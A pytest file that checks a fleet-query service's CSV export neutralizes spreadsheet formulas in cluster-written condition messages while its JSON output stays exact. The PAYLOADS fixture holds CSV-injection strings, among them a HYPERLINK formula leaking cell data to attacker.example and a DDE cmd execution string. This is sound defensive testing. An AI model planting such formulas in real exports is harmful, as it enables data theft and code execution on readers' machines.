"""CSV export (`Accept: text/csv`): leaf-controlled text must not become a spreadsheet formula
on the reader's machine. A leaf cluster's admin writes a condition whose reason and message
start with `=`, `+`, `-` or `@`; the exported cells start with `'` (OWASP's advice for CSV
injection), and the JSON of the same rows keeps the text exact."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests

from common.settings import Settings
from kubesim.gen.fleet import generate_fleet
from kubesim.server import KubeSim
from query.app import create_app
from query.export import OBJECT_COLUMNS, cell
from tests.support import sims
from tests.support.http import serve

FLEET = generate_fleet(clusters=1, namespaces=4, seed=5, teams=2)
ADMIN = {"X-Remote-User": "admin-0", "X-Remote-Group": "fleet-admins"}
PAYLOADS = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(1)"]


@pytest.fixture
def sim(tmp_path: Path) -> Iterator[KubeSim]:
    yield from sims.running(FLEET, tmp_path)


@pytest.mark.parametrize("text", [*PAYLOADS, "-2+3", "\t=1", "\r=1"])
def test_formula_like_cells_are_neutralized(text: str) -> None:
    assert cell(text) == "'" + text
    assert cell("a=b") == "a=b" and cell(None) == "" and cell(True) == "true"


def test_a_leaf_written_formula_is_exported_as_text(
    sim: KubeSim, tmp_path: Path, redis_url: str
) -> None:
    cluster = FLEET.cluster_names[0]
    targets = sim.list(cluster, "Kustomization")[: len(PAYLOADS)]
    assert len(targets) == len(PAYLOADS)
    for obj, payload in zip(targets, PAYLOADS, strict=True):
        meta = obj["metadata"]
        sim.set_ready(cluster, "Kustomization", meta["namespace"], meta["name"], False, "", payload)
    settings: Settings = sims.settings_for(tmp_path, redis_url)
    sims.collect(settings)
    with serve(create_app(settings)) as host:
        base = f"http://{host}/api/v1/objects"
        resp = requests.get(base, headers={**ADMIN, "Accept": "text/csv"}, timeout=30)
        rows = requests.get(base, params={"limit": 500}, headers=ADMIN, timeout=30).json()
    assert resp.status_code == 200
    records = list(csv.reader(io.StringIO(resp.content.decode(), newline="")))
    messages = [dict(zip(OBJECT_COLUMNS, r, strict=True))["message"] for r in records[1:]]
    for payload in PAYLOADS:
        assert "'" + payload in messages, payload
        assert payload not in messages
        assert payload in [r["message"] for r in rows["items"]]  # JSON stays exact
